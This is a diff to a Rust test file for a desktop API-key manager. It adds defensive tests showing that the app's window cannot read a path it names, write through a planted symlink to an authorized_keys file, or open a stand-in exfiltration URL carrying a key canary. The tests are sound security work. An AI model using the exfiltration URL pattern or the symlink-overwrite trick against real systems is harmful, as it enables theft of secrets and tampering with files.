@@ -24,11 +24,18 @@ struct Harness {
 }
 
 fn harness() -> Harness {
+    harness_with(|b| b)
+}
+
+/// A harness whose app builder also gets `plugins` (the real app registers a few).
+fn harness_with(
+    plugins: impl FnOnce(tauri::Builder<MockRuntime>) -> tauri::Builder<MockRuntime>,
+) -> Harness {
     let dir = tempfile::tempdir().unwrap();
     let vault = Arc::new(MemoryVault::new());
     let config = Config::at(dir.path().to_path_buf());
     let inventory = tauri::async_runtime::block_on(Inventory::open(config, vault.clone())).unwrap();
-    let app = keyward_desktop::with_commands(mock_builder())
+    let app = plugins(keyward_desktop::with_commands(mock_builder()))
         .manage(AppState::new(inventory))
         .build(tauri::generate_context!())
         .unwrap();
@@ -86,6 +93,28 @@ impl Harness {
             .clone()
     }
 
+    /// The file dialogs answer `path` from now on, as if the user chose it.
+    fn answer_dialogs(&self, path: &std::path::Path) {
+        use tauri::Manager;
+        self._app
+            .state::<AppState>()
+            .files
+            .answer_with(Some(path.to_path_buf()));
+    }
+
+    /// Picks `path` in the import dialog; returns the handle the window gets.
+    fn pick(&self, path: &std::path::Path) -> String {
+        self.answer_dialogs(path);
+        let picked = self.ok("import_file_pick", json!({}));
+        assert!(
+            !picked
+                .to_string()
+                .contains(&*path.parent().unwrap().to_string_lossy()),
+            "the window learns a handle and a file name, not the path: {picked}"
+        );
+        picked["handle"].as_str().unwrap().to_owned()
+    }
+
     fn assert_no_canary(&self) {
         let seen = self.seen.borrow();
         assert!(!seen.is_empty(), "the recorder saw no responses");
@@ -141,10 +170,16 @@ fn add_list_show_update_remove() {
     h.assert_no_canary();
 }
 
+/// What the window sends for a value (ui/src/lib/shape.ts computes the same).
+fn shape(value: &str) -> Value {
+    let s = keyward::providers::shape::KeyShape::of(value, &[]);
+    json!({"shape": {"prefix": s.prefix, "classes": s.classes, "tail": s.tail}})
+}
+
 #[test]
 fn detect_returns_a_masked_hint_only() {
     let h = harness();
-    let d = h.ok("key_detect", json!({"value": CANARY}));
+    let d = h.ok("key_detect", shape(CANARY));
     assert_eq!(
         (d["provider"].as_str(), d["kind"].as_str()),
         (Some("postman"), Some("api_key"))
@@ -156,12 +191,25 @@ fn detect_returns_a_masked_hint_only() {
             .ends_with("cdefca"[2..].as_ref() as &str),
         "{d}"
     );
-    let uuid = h.ok(
-        "key_detect",
-        json!({"value": "0c7f1a2b-1234-4abc-9def-0123456789ab"}),
-    );
+    let uuid = h.ok("key_detect", shape("0c7f1a2b-1234-4abc-9def-0123456789ab"));
     assert_eq!(uuid["provider"], "postmark");
     assert_eq!(uuid["needs_confirmation"], true);
+    h.assert_no_canary();
+}
+
+#[test]
+fn detect_never_receives_the_value() {
+    let h = harness();
+    assert!(
+        h.call("key_detect", json!({"value": CANARY})).is_err(),
+        "key_detect must not take the value"
+    );
+    let as_shape = json!({"shape": {"prefix": "", "classes": CANARY, "tail": ""}});
+    assert_eq!(h.err_code("key_detect", as_shape), "invalid_input");
+    let as_prefix = json!({"shape": {"prefix": CANARY, "classes": "", "tail": ""}});
+    assert_eq!(h.err_code("key_detect", as_prefix), "invalid_input");
+    let as_tail = json!({"shape": {"prefix": "PMAK-", "classes": "0000", "tail": CANARY}});
+    assert_eq!(h.err_code("key_detect", as_tail), "invalid_input");
     h.assert_no_canary();
 }
 
@@ -244,42 +292,76 @@ fn import_preview_and_commit() {
         format!("POSTMAN_KEY={CANARY}\nBLOG=pk_blog_staging_0123456789\n"),
     )
     .unwrap();
+    let handle = h.pick(&good);
     let preview = h.ok(
         "import_preview",
-        json!({"path": good, "options": {"environment": null, "provider": null, "purpose": null}}),
+        json!({"handle": handle, "options": {"environment": null, "provider": null, "purpose": null}}),
     );
     assert_eq!(preview["format"], "env");
     assert_eq!(preview["rows"].as_array().unwrap().len(), 2);
     assert_eq!(preview["rows"][0]["environment"], "staging");
     assert_eq!(preview["errors"], json!([]));
-    let result = h.ok("import_commit", json!({"path": good, "options": {}}));
+    let result = h.ok("import_commit", json!({"handle": handle, "options": {}}));
     assert_eq!(result["imported"], 2);
 
     let bad = dir.path().join("bad.env");
     std::fs::write(&bad, format!("GOOD={CANARY}x\nnot a line\n")).unwrap();
+    let bad = h.pick(&bad);
     let preview = h.ok(
         "import_preview",
-        json!({"path": bad, "options": {"environment": "dev"}}),
+        json!({"handle": bad, "options": {"environment": "dev"}}),
     );
     assert_eq!(preview["errors"][0]["line"], 2);
     assert_eq!(
         h.err_code(
             "import_commit",
-            json!({"path": bad, "options": {"environment": "dev"}})
+            json!({"handle": bad, "options": {"environment": "dev"}})
         ),
         "import_invalid"
     );
+    let missing = h.pick(&dir.path().join("missing"));
     assert_eq!(
-        h.err_code(
-            "import_preview",
-            json!({"path": dir.path().join("missing"), "options": {}})
-        ),
+        h.err_code("import_preview", json!({"handle": missing, "options": {}})),
         "invalid_input"
     );
     assert_eq!(
         h.ok("keys_list", json!({})).as_array().unwrap().len(),
         2,
         "the bad file imported nothing"
+    );
+    h.assert_no_canary();
+}
+
+/// Hole 4: the page names no path. An XSS that sends a path (or guesses a handle) reads nothing.
+#[test]
+fn import_reads_only_a_file_picked_in_the_dialog() {
+    let h = harness();
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join(".env");
+    std::fs::write(&file, format!("POSTMAN_KEY={CANARY}\n")).unwrap();
+    for cmd in ["import_preview", "import_commit"] {
+        assert!(
+            h.call(cmd, json!({"path": file, "options": {}})).is_err(),
+            "{cmd} read a path the page sent"
+        );
+        assert_eq!(
+            h.err_code(
+                cmd,
+                json!({"handle": "0123456789abcdef0123456789abcdef", "options": {}})
+            ),
+            "file_not_picked",
+            "{cmd} accepted a handle it never issued"
+        );
+    }
+    assert_eq!(h.ok("keys_list", json!({})), json!([]), "nothing imported");
+    let handle = h.pick(&file);
+    assert_eq!(handle.len(), 32, "a random 128-bit handle");
+    assert_eq!(
+        h.ok("import_preview", json!({"handle": handle, "options": {}}))["rows"]
+            .as_array()
+            .unwrap()
+            .len(),
+        1
     );
     h.assert_no_canary();
 }
@@ -329,9 +411,25 @@ fn settings_providers_audit() {
 
 #[test]
 fn copy_without_a_display_is_a_clear_error() {
-    // The mock runtime has no clipboard service of its own; with no display the core must
-    // refuse clearly (the real clipboard is covered by the CLI and e2e suites).
-    if std::env::var_os("DISPLAY").is_some() || std::env::var_os("WAYLAND_DISPLAY").is_some() {
+    // The mock runtime has no clipboard of its own: the core talks to the real one through
+    // $DISPLAY. scripts/test.sh sets DISPLAY (an Xvfb), so this test runs itself again in a
+    // child process without one, instead of returning early and testing nothing.
+    const CHILD: &str = "KEYWARD_TEST_COPY_WITHOUT_DISPLAY";
+    if std::env::var_os(CHILD).is_none() {
+        let name = "copy_without_a_display_is_a_clear_error";
+        let out = std::process::Command::new(std::env::current_exe().unwrap())
+            .args(["--exact", name, "--test-threads=1", "--nocapture"])
+            .env(CHILD, "1")
+            .env_remove("DISPLAY")
+            .env_remove("WAYLAND_DISPLAY")
+            .output()
+            .unwrap();
+        let stdout = String::from_utf8_lossy(&out.stdout);
+        assert!(
+            out.status.success() && stdout.contains("1 passed"),
+            "the test without a display failed or did not run:\n{stdout}\n{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
         return;
     }
     let h = harness();
@@ -508,7 +606,8 @@ fn review_and_its_export_hold_no_secret() {
     let mut written = Vec::new();
     for format in ["csv", "json", "md", "html"] {
         let path = dir.path().join(format!("review.{format}"));
-        let out = h.ok("review_export", json!({"format": format, "path": path}));
+        h.answer_dialogs(&path);
+        let out = h.ok("review_export", json!({"format": format}));
         let text = std::fs::read_to_string(&path).unwrap();
         assert_eq!(out["bytes"].as_u64(), Some(text.len() as u64));
         assert_eq!(out["path"], path.display().to_string());
@@ -531,33 +630,110 @@ fn review_and_its_export_hold_no_secret() {
     );
     assert!(written[3].starts_with("<!DOCTYPE html>") || written[3].starts_with("<!doctype html>"));
 
-    let file = dir.path().join("r.csv");
+    // A folder as the dialog's answer: the proposed name in that folder.
+    h.answer_dialogs(dir.path());
+    let out = h.ok("review_export", json!({"format": "md"}));
+    let proposed = std::path::Path::new(out["path"].as_str().unwrap());
+    assert_eq!(proposed.parent(), Some(dir.path()));
+    assert!(
+        proposed
+            .file_name()
+            .unwrap()
+            .to_string_lossy()
+            .starts_with("keyward-review-"),
+        "{out}"
+    );
+
     assert_eq!(
-        h.err_code("review_export", json!({"format": "pdf", "path": file})),
+        h.err_code("review_export", json!({"format": "pdf"})),
         "invalid_input"
     );
+    h.answer_dialogs(&dir.path().join("no/such/dir.csv"));
     assert_eq!(
-        h.err_code(
-            "review_export",
-            json!({"format": "csv", "path": "relative.csv"})
-        ),
-        "invalid_input"
-    );
-    assert_eq!(
-        h.err_code(
-            "review_export",
-            json!({"format": "csv", "path": dir.path()})
-        ),
-        "invalid_input"
-    );
-    assert_eq!(
-        h.err_code(
-            "review_export",
-            json!({"format": "csv", "path": dir.path().join("no/such/dir.csv")})
-        ),
-        "invalid_input"
+        h.err_code("review_export", json!({"format": "csv"})),
+        "export_failed"
     );
     h.assert_no_canary();
+}
+
+/// Hole 4: the export goes where the user said in the dialog, never through a symlink planted
+/// there, and never to a path the page names.
+#[test]
+fn review_export_never_follows_a_symlink_nor_a_path_from_the_page() {
+    let h = harness();
+    h.add("postman ci", "dev", CANARY);
+    let dir = tempfile::tempdir().unwrap();
+    let victim = dir.path().join("authorized_keys");
+    std::fs::write(&victim, "ssh-ed25519 AAAA precious").unwrap();
+    let link = dir.path().join("review.csv");
+    std::os::unix::fs::symlink(&victim, &link).unwrap();
+
+    // The page names the victim; the user chose the link's name in the dialog.
+    h.answer_dialogs(&link);
+    let out = h.call("review_export", json!({"format": "csv", "path": victim}));
+    assert_eq!(
+        std::fs::read_to_string(&victim).unwrap(),
+        "ssh-ed25519 AAAA precious",
+        "the export wrote through a symlink or to the page's path: {out:?}"
+    );
+    let out = out.unwrap();
+    assert_eq!(out["path"], link.display().to_string());
+    let meta = std::fs::symlink_metadata(&link).unwrap();
+    assert!(meta.is_file(), "the link was replaced by the report");
+    assert!(std::fs::read_to_string(&link)
+        .unwrap()
+        .contains("postman ci"));
+    h.assert_no_canary();
+}
+
+/// Hole 4: the window's capability grants no plugin a path or URL: no dialog, no opener, no
+/// `https://*`; only Keyward's own commands and the About box's name and version.
+#[test]
+fn the_capability_grants_no_dialog_and_no_opener() {
+    let text = std::fs::read_to_string(
+        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("src-tauri/capabilities/default.json"),
+    )
+    .unwrap();
+    assert!(!text.contains("https://*"), "a wildcard URL scope: {text}");
+    let cap: Value = serde_json::from_str(&text).unwrap();
+    for p in cap["permissions"].as_array().unwrap() {
+        let id = p
+            .as_str()
+            .unwrap_or_else(|| p["identifier"].as_str().unwrap());
+        assert!(
+            id.starts_with("allow-")
+                || ["core:app:allow-name", "core:app:allow-version"].contains(&id),
+            "the page is granted {id}"
+        );
+    }
+}
+
+/// Hole 4: no URL the page names is opened; provider pages come from the profiles.
+#[test]
+fn the_page_cannot_open_a_url_of_its_choosing() {
+    let h = harness_with(|b| b.plugin(tauri_plugin_opener::init()));
+    let refused = h
+        .call(
+            "plugin:opener|open_url",
+            json!({"url": "https://exfil.invalid/?k=kw-canary", "with": null}),
+        )
+        .expect_err("the opener plugin opened a URL the page named");
+    assert!(refused.to_string().contains("not allowed"), "{refused}");
+    for (provider, page) in [
+        ("https://exfil.invalid/", "dashboard"),
+        ("acme", "dashboard"),
+        ("postman", "https://exfil.invalid/"),
+    ] {
+        assert!(
+            h.call(
+                "provider_page_open",
+                json!({"provider": provider, "kind": null, "page": page, "url": "https://exfil.invalid/"})
+            )
+            .is_err(),
+            "opened {provider} {page}"
+        );
+    }
 }
 
 #[test]
@@ -617,7 +793,8 @@ fn import_preview_shows_key_dates_from_csv() {
         format!("name,secret,environment,created_at,last_rotated_at\nci,{CANARY},dev,2024-01-15,2025-03-01\n"),
     )
     .unwrap();
-    let preview = h.ok("import_preview", json!({"path": csv, "options": {}}));
+    let handle = h.pick(&csv);
+    let preview = h.ok("import_preview", json!({"handle": handle, "options": {}}));
     assert_eq!(preview["errors"], json!([]), "{preview}");
     let row = &preview["rows"][0];
     assert!(
@@ -660,4 +837,35 @@ fn usage_is_edited_and_client_side_secret_kinds_are_flagged() {
         .is_err());
     h.assert_no_canary();
     assert!(!h.seen.borrow().join("\n").contains(secret));
+}
+
+/// Hole 5: no command takes a key value as a plain `String` (it must deserialize straight into
+/// `Secret`), and detection takes no value at all.
+#[test]
+fn no_command_takes_a_key_value_as_a_string() {
+    let src = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src-tauri/src");
+    for entry in std::fs::read_dir(src).unwrap() {
+        let path = entry.unwrap().path();
+        let text = std::fs::read_to_string(&path).unwrap();
+        for (i, line) in text.lines().enumerate() {
+            let plain = line.replace(' ', "");
+            // A parameter `value: String`; `pub value: String` is RevealDto's, the one outbound
+            // value ("Show once"), which must serialize.
+            let bad = [
+                "secret:String",
+                "secret:Option<String>",
+                "admin_secret:String",
+            ]
+            .iter()
+            .any(|f| plain.contains(f))
+                || plain.starts_with("value:String")
+                || plain.contains(",value:String");
+            assert!(
+                !bad,
+                "{}:{}: a key value as a plain String: {line}",
+                path.display(),
+                i + 1
+            );
+        }
+    }
 }
